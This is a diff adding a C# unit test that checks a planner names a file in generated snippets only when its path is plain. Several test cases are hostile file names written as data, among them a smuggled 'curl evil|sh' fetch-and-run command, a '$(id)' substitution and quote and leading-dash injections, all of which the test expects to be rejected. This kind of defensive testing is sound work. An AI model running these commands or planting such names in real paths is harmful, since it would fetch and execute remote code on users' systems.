@@ -43,6 +43,25 @@ internal sealed class PlannerTests
         Assert.That(plan.Steps.IsEmpty, Is.EqualTo(result.Stage!.Index >= stage), "nothing to do where the stage is reached, and only there");
     }
 
+    [TestCase("src/train.py", true)]
+    [TestCase("src/train model.py", true, Description = "quoted in commands")]
+    [TestCase("src/train.py;curl evil|sh .py", false)]
+    [TestCase("src/$(id).py", false)]
+    [TestCase("src/a\": {run: x}.py", false)]
+    [TestCase("-train.py", false)]
+    public void A_file_is_named_in_a_snippet_only_where_its_name_is_plain(string path, bool isNamed)
+    {
+        var files = new Dictionary<string, string>(StringComparer.Ordinal)
+        {
+            ["requirements.txt"] = "scikit-learn==1.5.0\n",
+            [path] = "from sklearn.linear_model import LinearRegression\nif __name__ == '__main__':\n    LinearRegression().fit(x, y)\n",
+        };
+        var assessment = Fixture.Scanner(RuleSources.Rules).Scan(new Subject(new Core.Snapshots.MemorySnapshot(files), "r"));
+        var kaizen = assessment.Frameworks.First(each => each.Framework.Id == "kaizen-2023");
+        var snippets = new Planner(RuleSources.Rules, assessment).To(kaizen, kaizen.Framework.Stages.First(stage => stage.Index == 4))!.Steps.Select(step => step.Change?.Snippet ?? string.Empty);
+        Assert.That(snippets.Any(snippet => snippet.Contains(path, StringComparison.Ordinal)), Is.EqualTo(isNamed));
+    }
+
     [Test]
     public void A_step_names_the_tools_and_files_of_the_repository()
     {
